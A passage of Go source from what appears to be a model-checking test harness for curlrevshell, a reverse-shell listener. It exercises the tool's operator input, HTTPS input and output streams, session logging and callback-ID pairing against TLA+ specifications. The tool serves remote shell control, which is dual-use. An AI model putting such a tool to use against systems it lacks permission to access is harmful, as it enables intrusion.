	pump := func(d time.Duration, until func() bool, cur *string, curI int) bool {
		t := time.NewTimer(d)
		defer t.Stop()
		for !until() {
			select {
			case n, ok := <-notes:
				if !ok {
					return false
				}
				if n.kind == "G" {
					gq = append(gq, n)
					continue
				}
				if entry(n.b, cur, curI) {
					cur = nil
					return true
				}
			case <-t.C:
				return until()
			}
		}
		return true
	}
	for _, ei := range walk {
		var a oiAct
		json.Unmarshal(g.Edges[ei].Act, &a)
		labels = append(labels, a.N)
		switch a.N {
		case "TypeLine":
			line := oiLine(a.I, rng)
			p.Type([]byte(line + "\r"))
			done := false
			if !pump(wait, func() bool { return done }, &line, a.I) {
				// no entry for the line: leave the event out, TLC refuses what follows
				trace = append(trace, brk.TraceEv{"e": "TypeLine", "i": a.I, "intact": false})
			}
		case "CtrlI", "CtrlJ":
			g0 := len(gq)
			if a.N == "CtrlI" {
				ins++
				trace = append(trace, brk.TraceEv{"e": "CtrlI"})
				p.Type([]byte{0x09})
			} else {
				trace = append(trace, brk.TraceEv{"e": "CtrlJ"})
				p.Type([]byte{0x0a})
			}
			if !pump(wait, func() bool { return len(gq) > g0 }, nil, 0) {
				return nil, labels, fmt.Errorf("the payload generator was not called after %s", a.N)
			}
			if a.N == "CtrlI" {
				pending[ins] = gq[len(gq)-1].b
			} else {
				pretend = append(pretend, gq[len(gq)-1].b)
			}
			if settle && a.N == "CtrlI" {
				j := ins
				pump(wait, func() bool { return sent[j] }, nil, 0)
			}
		case "InsSend":
			j := a.J
			pump(wait, func() bool { return sent[j] || pending[j] == nil }, nil, 0)
		case "CtrlO":
			trace = append(trace, brk.TraceEv{"e": "CtrlO"})
			p.Type([]byte{0x0f})
		}
	}
	pump(wait, func() bool { return len(pending) == 0 }, nil, 0)
	trace = append(trace, brk.TraceEv{"e": "Quiesce"})
	// anything entered twice or in pieces shows up now
	pump(60*time.Millisecond, func() bool { return false }, nil, 0)
	return trace, labels, nil
}

// oiLongLine types one line of n characters (in pieces, so that the pty's own input queue is not
// what limits it) and returns what the input channel received for it.
func oiLongLine(helper string, n int) (got string, want string, err error) {
	crd, cwr, err := os.Pipe()
	if err != nil {
		return "", "", err
	}
	defer cwr.Close()
	nrd, nwr, err := os.Pipe()
	if err != nil {
		return "", "", err
	}
	p, err := ptyx.Start(helper, nil, ptyx.Opts{ExtraFiles: []*os.File{crd, nwr}, Env: []string{"OPSH_ICH=1"}})
	crd.Close()
	nwr.Close()
	if err != nil {
		nrd.Close()
		return "", "", err
	}
	defer p.Close()
	entries := make(chan string, 16)
	go func() {
		defer nrd.Close()
		sc := bufio.NewScanner(nrd)
		sc.Buffer(make([]byte, 1<<20), 1<<22)
		for sc.Scan() {
			f := strings.Fields(sc.Text())
			if len(f) >= 1 && f[0] == "I" {
				var b []byte
				if len(f) == 2 {
					b, _ = base64.StdEncoding.DecodeString(f[1])
				}
				entries <- string(b)
			}
		}
	}()
	dl := time.Now().Add(10 * time.Second)
	for !bytes.Contains(p.Output(), []byte("<READY>")) {
		if time.Now().After(dl) {
			return "", "", fmt.Errorf("helper did not come up")
		}
		time.Sleep(time.Millisecond)
	}
	var sb strings.Builder
	for i := 0; sb.Len() < n; i++ {
		sb.WriteString(fmt.Sprintf("%06d.", i))
	}
	want = sb.String()[:n]
	for off := 0; off < len(want); off += 200 {
		end := off + 200
		if end > len(want) {
			end = len(want)
		}
		p.Type([]byte(want[off:end]))
		// wait for the echo of this piece before sending the next
		time.Sleep(8 * time.Millisecond)
	}
	p.Type([]byte("\r"))
	select {
	case got = <-entries:
		return got, want, nil
	case <-time.After(8 * time.Second):
		return "", want, fmt.Errorf("no entry for a line of %d characters", n)
	}
}

const oiTraceCfg = `SPECIFICATION TSpec
CONSTANTS
  MaxLines = 100
  MaxIns = 100
  MaxOther = 100
  Emit = FALSE
INVARIANTS NotAllConsumed LinesOnceInOrder OneEntryPerInsert NothingElseEntered NeverBeforeEarlierLines
CHECK_DEADLOCK FALSE
`

func opInputLeg(r *ev.Run) {
	scratch, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "opinput-")
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	defer os.RemoveAll(scratch)
	helper := filepath.Join(scratch, "opsh")
	if err := goBuild(filepath.Join(ev.Root(), "harness"), "./helpers/opsh", helper, ""); err != nil {
		r.Inconclusive("%v", err)
		return
	}
	cfg, limit := "OpInput_q", 300
	if r.Tier == "thorough" {
		cfg, limit = "OpInput_t", 3000
	}
	g := graph.New()
	var mu sync.Mutex
	res, err := tlcrun.Run(tlcrun.Opts{Module: "OpInput", Config: cfg, Workers: 4, Timeout: 10 * time.Minute,
		OnTagged: func(tag, p string) {
			if tag == "EDGE" {
				mu.Lock()
				g.AddEdgeJSON(p)
				mu.Unlock()
			}
		}})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
		r.Inconclusive("TLC %s: err=%v violated=%q\n%s", cfg, err, resViolated(res), tail(res))
		return
	}
	r.Add("states", res.Distinct)
	r.Add("transitions", len(g.Edges))
	r.Append("tlc_invariants_checked", "OpInput: LinesOnceInOrder OneEntryPerInsert NothingElseEntered NeverBeforeEarlierLines; liveness EveryInsertArrives")
	g.SetInitByNoIncoming()
	rng := rand.New(rand.NewSource(r.Seed))
	walks := g.CoveringWalks(rng, 14)
	if len(walks) > limit {
		rng.Shuffle(len(walks), func(i, j int) { walks[i], walks[j] = walks[j], walks[i] })
		walks = walks[:limit]
	}
	// very long typed lines: the line editor's capacity
	for _, n := range []int{4096, 4097, 6000} {
		got, want, err := oiLongLine(helper, n)
		if err != nil {
			r.Inconclusive("long typed line: %v", err)
			continue
		}
		r.Add("evaluations", 1)
		if got != want {
			key := "operator-input:typed-line-over-4096-characters"
			if n <= 4096 {
				key = "operator-input:long-typed-line"
			}
			r.Violation(key, map[string]any{"kind": "one line typed on the pty of the real opshell", "typed_characters": n, "entered_characters": len(got),
				"entered_is_prefix_of_typed": strings.HasPrefix(want, got)})
			break
		}
	}
	traces := make([][]brk.TraceEv, len(walks))
	labels := make([][]string, len(walks))
	errs := make([]error, len(walks))
	var wg sync.WaitGroup
	sem := make(chan struct{}, runtime.NumCPU())
	for i := range walks {
		wg.Add(1)
		sem <- struct{}{}
		go func(i int) {
			defer wg.Done()
			defer func() { <-sem }()
			traces[i], labels[i], errs[i] = opInputWalk(helper, g, walks[i], r.Seed*31+int64(i), i%2 == 0)
		}(i)
	}
	wg.Wait()
	var ok [][]brk.TraceEv
	var okIdx []int
	nerr := 0
	for i := range walks {
		if errs[i] != nil {
			nerr++
			if nerr <= 2 {
				r.Inconclusive("operator input walk: %v", errs[i])
			}
			continue
		}
		ok = append(ok, traces[i])
		okIdx = append(okIdx, i)
	}
	r.Set("operator_input_walks", len(ok))
	r.Add("evaluations", len(ok))
	r.Add("traces_validated_against_impl", len(ok))
	if len(ok) == 0 {
		return
	}
	// self-test of the binding: an entry duplicated in a recorded trace must be refused
	for _, t := range ok {
		for k, e := range t {
			if e["e"] == "InsSend" {
				bad := append(append([]brk.TraceEv{}, t[:k+1]...), t[k:]...)
				if acc, _, err := traceAccepted("OpInputTrace", oiTraceCfg, [][]brk.TraceEv{bad}); err == nil && acc {
					r.Inconclusive("self-test: an operator-input trace with a payload entered twice was accepted")
				} else if err == nil {
					r.Set("selftest_operator_input", "trace with a payload entered twice rejected")
				}
				goto tested
			}
		}
	}
tested:
	acc, vres, err := traceAccepted("OpInputTrace", oiTraceCfg, ok)
	if err != nil {
		r.Inconclusive("operator input trace validation: %v", err)
		return
	}
	if vres != nil {
		r.Add("trace_validation_states", vres.Distinct)
	}
	if acc {
		return
	}
	idx := make([]int, len(ok))
	for i := range idx {
		idx[i] = i
	}
	var rej []int
	if err := findRejected("OpInputTrace", oiTraceCfg, idx, ok, 3, &rej); err != nil {
		r.Inconclusive("operator input trace validation: %v", err)
		return
	}
	seen := map[string]bool{}
	for _, k := range rej {
		t := ok[k]
		at, inv, err := firstRefused("OpInputTrace", oiTraceCfg, t)
		if err != nil || at < 0 {
			continue
		}
		aspect := "operator-input:" + fmt.Sprint(t[at]["e"])
		if inv != "" {
			aspect += ":" + inv
		}
		if seen[aspect] {
			continue
		}
		// a verdict only when the same keys give a refused trace again
		i := okIdx[k]
		again := 0
		for n := 0; n < 3 && again < 2; n++ {
			t2, _, err := opInputWalk(helper, g, walks[i], r.Seed*31+int64(i), i%2 == 0)
			if err != nil {
				continue
			}
			if a2, _, err := traceAccepted("OpInputTrace", oiTraceCfg, [][]brk.TraceEv{t2}); err == nil && !a2 {
				again++
			}
		}
		if again == 0 {
			transient(r, "refused operator-input trace (%s): %v", aspect, labels[i])
			continue
		}
		if again < 2 {
			r.Inconclusive("refused operator-input trace reproduced only once (%s): %v", aspect, labels[i])
			continue
		}
		seen[aspect] = true
		r.Violation(aspect, map[string]any{"kind": "keys typed on the pty of the real opshell; entries of the input channel validated against OpInput.tla",
			"keys": labels[i], "refused_event": t[at], "refused_at": at, "trace": t, "seed": r.Seed*31 + int64(i), "violated_invariant": inv})
	}
}
