package main

import (
	"fmt"
	"math/rand"
	"net"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"sync"

	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/idn"
)

func init() {
	register("C05", "model_checking", advertCampaign)
}

func advertCampaign(r *ev.Run) {
	scratch, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "advert-")
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	defer os.RemoveAll(scratch)
	bin, err := buildBinary(scratch)
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	cfg := "Identity_q"
	if r.Tier == "thorough" {
		cfg = "Identity_t"
	}
	g, res := idnGraph(r, cfg)
	if g == nil {
		return
	}
	r.Add("states", res.Distinct)
	r.Add("transitions", len(g.Edges))
	r.Append("tlc_invariants_checked", "Identity: AdvertisedIsServed (every fingerprint advertised during a run is the key served) StableKey TornNeverSilentlyDifferent NeverRewritten")
	hasV6 := false
	if l, err := net.Listen("tcp", "[::1]:0"); err == nil {
		hasV6 = true
		l.Close()
	}
	_, curlErr := exec.LookPath("curl")
	rng := rand.New(rand.NewSource(r.Seed))
	walks := g.CoveringWalks(rng, 10)
	// only histories that contain a run are of interest here; thin the rest out in the quick tier
	var sel [][]int
	for _, w := range walks {
		starts := 0
		for _, ei := range w {
			if strings.Contains(string(g.Edges[ei].Act), `"Start"`) {
				starts++
			}
		}
		if starts > 0 {
			sel = append(sel, w)
		}
	}
	if r.Tier == "quick" && len(sel) > 160 {
		rng.Shuffle(len(sel), func(i, j int) { sel[i], sel[j] = sel[j], sel[i] })
		sel = sel[:160]
	}
	type job struct {
		walk  []int
		depth int
		seed  int64
		res   *idn.Result
		err   error
	}
	jobs := make([]*job, len(sel))
	var wg sync.WaitGroup
	sem := make(chan struct{}, runtime.NumCPU())
	for i, w := range sel {
		jobs[i] = &job{walk: w, depth: []int{0, 1, 3}[i%3], seed: r.Seed*7907 + int64(i)}
		wg.Add(1)
		sem <- struct{}{}
		go func(j *job, i int) {
			defer wg.Done()
			defer func() { <-sem }()
			runner := &idn.Bin{Path: bin, HasV6: hasV6, Curl: curlErr == nil && i%8 == 0}
			j.res, j.err = idn.Replay(g, j.walk, scratch, j.depth, j.seed, idn.NoForce, runner)
		}(jobs[i], i)
	}
	wg.Wait()
	seen := map[string]bool{}
	distinct := map[string]bool{}
	starts, steps := 0, 0
	for _, j := range jobs {
		if j.err != nil {
			r.Inconclusive("history on the real binary: %v", j.err)
			continue
		}
		starts += j.res.Starts
		steps += j.res.Steps
		distinct[strings.Join(j.res.Labels, " ")] = true
		for _, d := range j.res.Divs {
			if d.Prop != "C05" {
				fmt.Printf("note: divergence attributed to %s (%s): %s\n", d.Prop, d.Aspect, d.Desc)
				continue
			}
			if seen[d.Aspect] {
				continue
			}
			ok := 0
			for k := 0; k < 2; k++ {
				runner := &idn.Bin{Path: bin, HasV6: hasV6, Curl: curlErr == nil}
				r2, err := idn.Replay(g, j.walk, scratch, j.depth, j.seed, idn.NoForce, runner)
				if err == nil {
					for _, d2 := range r2.Divs {
						if d2.Aspect == d.Aspect {
							ok++
							break
						}
					}
				}
			}
			if ok < 2 {
				r.Inconclusive("divergence %s did not reproduce: %s", d.Aspect, d.Desc)
				continue
			}
			seen[d.Aspect] = true
			r.Violation(d.Aspect, map[string]any{"kind": "Identity-walk on the real binary", "desc": d.Desc, "step": d.Step, "labels": j.res.Labels, "seed": j.seed})
		}
	}
	for i := 0; i < 3 && i < len(jobs); i++ {
		if jobs[i].res != nil {
			r.Sample(jobs[i].res.Labels)
		}
	}
	r.Add("evaluations", starts)
	r.Add("distinct_nontrivial", len(distinct))
	r.Add("traces_validated_against_impl", len(jobs))
	r.Set("runs_of_the_real_binary", starts)
	r.Set("replayed_steps", steps)
	r.Set("ipv6_loopback", hasV6)
	r.Set("real_curl", curlErr == nil)
	r.Rule("histories of runs (with and without certificate cache), stops, crashes during save, damage, deletion and advertising actions (script at /c, help re-printed after a shell died) covering every edge of Identity.tla's TLC graph are replayed with the real binary on a pty, with seeded listen-address forms (IPv4, IPv6, with and without port), -callback-address forms and -serve-files-from; every pin printed or embedded is compared with the SPKI hash of the certificate a TLS handshake on the bound port presents, printed addresses must name the bound port unless the user gave one, and real curl --pinnedpubkey must connect with the advertised value and fail with another; non-trivial = distinct concretised histories")
	r.Assume("SHA-256 / X.509 / TLS are trusted; the hash function is treated as injective")
}
