package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"math/rand"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"time"
	"unicode/utf8"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/ptyx"
	"github.com/magisterquis/curlrevshell/verifharness/srv"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

// bodyReader decodes the (chunked) body of a streaming HTTP response on c.
type bodyReader struct {
	c    net.Conn
	br   *bufio.Reader
	body io.Reader
	acc  bytes.Buffer
}

// until reads until want has arrived in the decoded body or d elapsed.
func (b *bodyReader) until(want []byte, d time.Duration) bool {
	b.c.SetReadDeadline(time.Now().Add(d))
	if b.body == nil {
		resp, err := http.ReadResponse(b.br, nil)
		if err != nil {
			return false
		}
		b.body = resp.Body
	}
	buf := make([]byte, 65536)
	for !bytes.Contains(b.acc.Bytes(), want) {
		n, err := b.body.Read(buf)
		b.acc.Write(buf[:n])
		if err != nil {
			return bytes.Contains(b.acc.Bytes(), want)
		}
	}
	return true
}

// liveInputLeg: operator lines reach a real HTTPS client on /i/{id} and /io one by one, each
// before the next is entered (the handler must push every line onto the wire by itself).
func liveInputLeg(r *ev.Run) {
	rng := rand.New(rand.NewSource(r.Seed))
	for _, mode := range []string{"/i", "/io"} {
		s, err := srv.Start(srv.Opts{})
		if err != nil {
			r.Inconclusive("live input leg: %v", err)
			return
		}
		c, err := dialTLS(s.Addr)
		if err != nil {
			s.Stop()
			r.Inconclusive("live input leg: %v", err)
			return
		}
		if mode == "/i" {
			fmt.Fprintf(c, "GET /i/live-%d HTTP/1.1\r\nHost: x\r\n\r\n", rng.Intn(1e6))
		} else {
			fmt.Fprintf(c, "POST /io HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
		}
		want := "Input connected"
		if mode == "/io" {
			want = iobroker.ShellReadyMessage
		}
		if _, ok := s.WaitLine(0, 5*time.Second, func(cl opshell.CLine) bool { return strings.Contains(cl.Line, want) }); !ok {
			r.Inconclusive("live input leg: %s stream not attached", mode)
			c.Close()
			s.Stop()
			return
		}
		rd := &bodyReader{c: c, br: bufio.NewReader(c)}
		n := 6
		if r.Tier == "thorough" {
			n = 40
		}
		for k := 0; k < n; k++ {
			line := fmt.Sprintf("echo live-%s-%d-%d", strings.Trim(mode, "/"), k, rng.Intn(1e9))
			if k%5 == 4 {
				line += strings.Repeat(" pad", 5000)
			}
			s.Ich <- line
			t0 := time.Now()
			if !rd.until([]byte(line+"\n"), 5*time.Second) {
				r.Violation("live:line-not-pushed-to-the-wire:"+mode, map[string]any{"mode": mode, "line_number": k + 1,
					"what": "a line entered by the operator did not reach the HTTPS client within 5 s although no further input was entered", "received_so_far": rd.acc.Len()})
				break
			}
			r.Add("live_lines_delivered", 1)
			_ = t0
		}
		c.Close()
		s.Stop()
	}
}

// liveOutputLeg: bytes uploaded on /o/{id} and /io in chunks of many sizes are displayed exactly.
func liveOutputLeg(r *ev.Run) {
	rng := rand.New(rand.NewSource(r.Seed + 1))
	for _, mode := range []string{"/o", "/io"} {
		s, err := srv.Start(srv.Opts{})
		if err != nil {
			r.Inconclusive("live output leg: %v", err)
			return
		}
		c, err := dialTLS(s.Addr)
		if err != nil {
			s.Stop()
			r.Inconclusive("live output leg: %v", err)
			return
		}
		if mode == "/o" {
			fmt.Fprintf(c, "POST /o/live-%d HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", rng.Intn(1e6))
		} else {
			fmt.Fprintf(c, "POST /io HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
		}
		want := "Output connected"
		if mode == "/io" {
			want = iobroker.ShellReadyMessage
		}
		from, ok := s.WaitLine(0, 5*time.Second, func(cl opshell.CLine) bool { return strings.Contains(cl.Line, want) })
		if !ok {
			r.Inconclusive("live output leg: %s stream not attached", mode)
			c.Close()
			s.Stop()
			return
		}
		var sentAll []byte
		sizes := []int{1, 2, 100, 2047, 2048, 2049, 5000, 70000}
		for k, sz := range sizes {
			b := make([]byte, sz)
			for i := range b {
				b[i] = byte('a' + (len(sentAll)+i)%26)
				if (len(sentAll)+i)%97 == 0 {
					b[i] = byte(rng.Intn(256))
				}
			}
			sentAll = append(sentAll, b...)
			fmt.Fprintf(c, "%x\r\n", len(b))
			c.Write(b)
			fmt.Fprintf(c, "\r\n")
			_ = k
		}
		fmt.Fprintf(c, "0\r\n\r\n") // the upload ends by itself
		// everything must be displayed, and before the closing notice
		dl := time.Now().Add(10 * time.Second)
		var shown []byte
		noticeAt, dataAfterNotice := -1, false
		for time.Now().Before(dl) {
			shown = shown[:0]
			noticeAt, dataAfterNotice = -1, false
			for i, l := range s.Lines()[from+1:] {
				if l.CL.Plain {
					shown = append(shown, l.CL.Line...)
					if noticeAt >= 0 {
						dataAfterNotice = true
					}
				} else if strings.Contains(l.CL.Line, "closed") && noticeAt < 0 {
					noticeAt = i
				}
			}
			if len(shown) >= len(sentAll) && (noticeAt >= 0 || mode == "/io") {
				break
			}
			time.Sleep(2 * time.Millisecond)
		}
		switch {
		case !bytes.Equal(shown, sentAll):
			r.Violation("live:output-not-byte-exact:"+mode, map[string]any{"mode": mode, "sent_bytes": len(sentAll), "shown_bytes": len(shown), "prefix_ok": bytes.HasPrefix(sentAll, shown)})
		case dataAfterNotice:
			r.Violation("live:output-after-close-notice:"+mode, map[string]any{"mode": mode})
		default:
			r.Add("live_bytes_displayed", len(shown))
		}
		c.Close()
		s.Stop()
	}
}

var reJSONLine = regexp.MustCompile(`^\{.*\}$`)

// logFileLeg: the -log file of the real binary after a session with hostile data is one JSON
// object per line, and its Shell I/O records are the session.
func logFileLeg(r *ev.Run) {
	scratch, err := os.MkdirTemp(os.Getenv("VERIF_SCRATCH"), "logfile-")
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	defer os.RemoveAll(scratch)
	bin, err := buildBinary(scratch)
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	logf := filepath.Join(scratch, "session.json")
	p, err := ptyx.Start(bin, []string{"-listen-address", "127.0.0.1:0", "-tls-certificate-cache", filepath.Join(scratch, "c.txtar"), "-log", logf}, ptyx.Opts{Dir: scratch, Env: []string{"HOME=" + scratch}})
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	defer p.Close()
	m, ok := p.WaitFor(reListen, 0, 10*time.Second)
	if !ok {
		r.Inconclusive("log-file leg: binary did not start")
		return
	}
	addr := string(reListen.FindSubmatch(m)[1])
	ci, err1 := dialTLS(addr)
	co, err2 := dialTLS(addr)
	if err1 != nil || err2 != nil {
		r.Inconclusive("log-file leg: %v %v", err1, err2)
		return
	}
	defer ci.Close()
	defer co.Close()
	id := `log"id'\`
	fmt.Fprintf(ci, "GET /i/%s HTTP/1.1\r\nHost: x\r\n\r\n", "logid-1")
	fmt.Fprintf(co, "POST /o/%s HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", "logid-1")
	_ = id
	if _, ok := p.WaitFor(regexp.MustCompile(`Shell is ready`), 0, 5*time.Second); !ok {
		r.Inconclusive("log-file leg: shell not attached")
		return
	}
	// a refused attempt, for its error record
	cr, _ := dialTLS(addr)
	fmt.Fprintf(cr, "GET /i/%s HTTP/1.1\r\nHost: x\r\n\r\n", "logid-other")
	p.WaitFor(regexp.MustCompile(`Rejected`), 0, 5*time.Second)
	cr.Close()
	// output with quotes, newlines, control and non-UTF-8 bytes
	outs := [][]byte{[]byte("plain out\n"), []byte("quote \" back\\slash 'single'\n"), []byte("multi\nline\r\nchunk\n"), {0x00, 0x01, 0x1b, '[', '3', '1', 'm', 0x7f, '\n'}, {0xff, 0xfe, 0xc3, 0x28, '\n'}, []byte("{\"json\":\"inside\"}\n")}
	for i, o := range outs {
		fmt.Fprintf(co, "%x\r\n", len(o))
		co.Write(o)
		fmt.Fprintf(co, "\r\n")
		tag := fmt.Sprintf("after-out-%d", i)
		// serialise chunks so that each upload chunk is one read and one record
		fmt.Fprintf(co, "%x\r\n%s\n\r\n", len(tag)+1, tag)
		if _, ok := p.WaitFor(regexp.MustCompile(tag), 0, 5*time.Second); !ok {
			r.Inconclusive("log-file leg: output %d not displayed", i)
			return
		}
	}
	// operator lines
	ins := []string{"echo hello", `echo "quoted" 'single' \back`, "echo tab\there"}
	rdi := &bodyReader{c: ci, br: bufio.NewReader(ci)}
	for _, l := range ins {
		p.Type([]byte(l + "\r"))
		if !rdi.until([]byte(strings.ReplaceAll(l, "\t", "")), 5*time.Second) && !rdi.until([]byte("echo"), time.Second) {
			r.Inconclusive("log-file leg: operator line did not arrive")
			return
		}
	}
	time.Sleep(50 * time.Millisecond)
	co.Close()
	ci.Close()
	p.WaitFor(regexp.MustCompile(`Shell is gone`), 0, 5*time.Second)
	p.Type([]byte{4})
	if ex, st := p.WaitExit(8 * time.Second); !ex || st != 0 {
		r.Inconclusive("log-file leg: binary did not exit cleanly (%v, %d)", ex, st)
		return
	}
	b, err := os.ReadFile(logf)
	if err != nil {
		r.Violation("logfile:missing", map[string]any{"error": err.Error()})
		return
	}
	var outData, inData []string
	nconn, ndisc, nerr := 0, 0, 0
	// per direction: line numbers of the connect record, the I/O records and the disconnect record
	type span struct{ conn, disc, firstIO, lastIO int }
	spans := map[string]*span{}
	spanOf := func(rec map[string]any) *span {
		d, _ := rec[iobroker.LKDirection].(string)
		if spans[d] == nil {
			spans[d] = &span{}
		}
		return spans[d]
	}
	for i, line := range strings.Split(strings.TrimSuffix(string(b), "\n"), "\n") {
		var rec map[string]any
		if !reJSONLine.MatchString(line) || json.Unmarshal([]byte(line), &rec) != nil {
			r.Violation("logfile:not-one-json-object-per-line", map[string]any{"line_number": i + 1, "line": line})
			return
		}
		switch rec["msg"] {
		case iobroker.LMShellIO:
			sp := spanOf(rec)
			if sp.firstIO == 0 {
				sp.firstIO = i + 1
			}
			sp.lastIO = i + 1
			d, _ := rec[iobroker.LKData].(string)
			if rec[iobroker.LKDirection] == string(iobroker.LVOutput) {
				outData = append(outData, d)
			} else {
				inData = append(inData, d)
			}
		case iobroker.LMNewConnection:
			nconn++
			if sp := spanOf(rec); sp.conn == 0 {
				sp.conn = i + 1
			}
		case iobroker.LMDisconnected:
			ndisc++
			spanOf(rec).disc = i + 1
		case iobroker.LMAlreadyConnected, iobroker.LMIncorrectKey, iobroker.LMDisconnecting, iobroker.LMKeyMissing:
			nerr++
		}
	}
	// every uploaded chunk has its record, in order (JSON replaces invalid UTF-8 by U+FFFD)
	var wantOut []string
	for i, o := range outs {
		wantOut = append(wantOut, strings.ToValidUTF8(string(o), "�"), fmt.Sprintf("after-out-%d\n", i))
	}
	gotJoined := strings.Join(outData, "")
	wantJoined := strings.Join(wantOut, "")
	norm := func(s string) string {
		// invalid bytes may be replaced one by one or as a run; compare modulo runs of U+FFFD
		re := regexp.MustCompile("�+")
		return re.ReplaceAllString(s, "�")
	}
	if norm(gotJoined) != norm(wantJoined) || !utf8.ValidString(gotJoined) {
		r.Violation("logfile:output-records-differ-from-session", map[string]any{"logged": outData, "sent": wantOut})
	}
	if len(inData) != len(ins) {
		r.Violation("logfile:input-records-differ-from-session", map[string]any{"logged": inData, "entered": ins})
	} else {
		for i := range ins {
			if inData[i] != ins[i]+"\n" && inData[i] != strings.ReplaceAll(ins[i], "\t", "")+"\n" {
				r.Violation("logfile:input-records-differ-from-session", map[string]any{"logged": inData, "entered": ins})
				break
			}
		}
	}
	if nconn != 2 || ndisc != 2 || nerr != 1 {
		r.Violation("logfile:connection-records", map[string]any{"connect_records": nconn, "disconnect_records": ndisc, "refusal_records": nerr, "expected": "2 / 2 / 1"})
	}
	// a transcript in order: a stream's traffic lies between its connect and its disconnect record
	for d, sp := range spans {
		if sp.firstIO != 0 && (sp.conn == 0 || sp.conn > sp.firstIO || (sp.disc != 0 && sp.disc < sp.lastIO)) {
			r.Violation("logfile:record-order", map[string]any{"direction": d, "connect_record_line": sp.conn, "first_io_record_line": sp.firstIO,
				"last_io_record_line": sp.lastIO, "disconnect_record_line": sp.disc})
		}
	}
	r.Add("logfile_lines_checked", len(strings.Split(string(b), "\n")))
}

// httpIDLeg: over real HTTPS, a second stream is only paired with the first when its path ID is
// exactly the same; related IDs (case, prefix, extension, escaped variants) are refused.
func httpIDLeg(r *ev.Run) {
	s, err := srv.Start(srv.Opts{})
	if err != nil {
		r.Inconclusive("http id leg: %v", err)
		return
	}
	defer s.Stop()
	base := "AbC123xyz"
	variants := []string{"abc123xyz", "ABC123XYZ", "AbC123xy", "AbC123xyzz", "AbC123xyz%20", "AbC123xyZ", "%41bC123xyz%00", "AbC123xyz.", "AbC123xyz;x"}
	ci, err := hold(s.Addr, "/i/"+base)
	if err != nil {
		r.Inconclusive("http id leg: %v", err)
		return
	}
	defer ci.Close()
	if _, ok := s.WaitLine(0, 5*time.Second, func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "Input connected") }); !ok {
		r.Inconclusive("http id leg: input stream not attached")
		return
	}
	for _, v := range variants {
		n0 := s.NLines()
		c, err := dialTLS(s.Addr)
		if err != nil {
			continue
		}
		fmt.Fprintf(c, "POST /o/%s HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nLEAK\n\r\n", v)
		_, ready := s.WaitLine(n0, 300*time.Millisecond, func(cl opshell.CLine) bool {
			return strings.Contains(cl.Line, iobroker.ShellReadyMessage) || (cl.Plain && strings.Contains(cl.Line, "LEAK"))
		})
		c.Close()
		if ready {
			r.Violation("http:related-id-paired", map[string]any{"input_id": base, "output_id_on_the_wire": v, "what": "an output stream with a different callback ID was attached to the input stream (or its output displayed)"})
			return
		}
		r.Add("http_related_ids_refused", 1)
	}
	// the exact ID (also when percent-encoded on the wire) is accepted
	n0 := s.NLines()
	c, err := dialTLS(s.Addr)
	if err == nil {
		fmt.Fprintf(c, "POST /o/%s HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", "%41bC123xyz")
		if _, ok := s.WaitLine(n0, 5*time.Second, func(cl opshell.CLine) bool { return strings.Contains(cl.Line, iobroker.ShellReadyMessage) }); !ok {
			r.Violation("http:same-id-refused", map[string]any{"input_id": base, "output_id_on_the_wire": "%41bC123xyz"})
		}
		c.Close()
	}
}

// httpGenerationsLeg: many shells in series over real HTTPS, each with a new ID, ended in
// different ways: every one is accepted, announced ready once, gone once, and the callback
// help is printed again once.
func httpGenerationsLeg(r *ev.Run) {
	s, err := srv.Start(srv.Opts{})
	if err != nil {
		r.Inconclusive("generations leg: %v", err)
		return
	}
	defer s.Stop()
	n := 40
	if r.Tier == "thorough" {
		n = 400
	}
	rng := rand.New(rand.NewSource(r.Seed + 5))
	for g := 0; g < n; g++ {
		n0 := s.NLines()
		id := fmt.Sprintf("gen%d-%d", g, rng.Intn(1e6))
		var ci, co net.Conn
		var err1, err2 error
		io := g%4 == 3
		if io {
			ci, err1 = dialTLS(s.Addr)
			if err1 == nil {
				fmt.Fprintf(ci, "POST /io HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
			}
		} else {
			ci, err1 = hold(s.Addr, "/i/"+id)
			co, err2 = dialTLS(s.Addr)
			if err2 == nil {
				fmt.Fprintf(co, "POST /o/%s HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", id)
			}
		}
		if err1 != nil || err2 != nil {
			r.Inconclusive("generations leg: %v %v", err1, err2)
			return
		}
		what := map[string]any{"generation": g + 1, "id": id, "via_io": io}
		if _, ok := s.WaitLine(n0, 5*time.Second, func(cl opshell.CLine) bool { return strings.Contains(cl.Line, iobroker.ShellReadyMessage) }); !ok {
			r.Violation("http:next-shell-not-accepted", what)
			return
		}
		// end it: input side first, output side first, or a clean end of the upload
		switch {
		case io:
			ci.Close()
		case g%3 == 0:
			ci.Close()
		case g%3 == 1:
			co.Close()
		default:
			fmt.Fprintf(co, "0\r\n\r\n")
		}
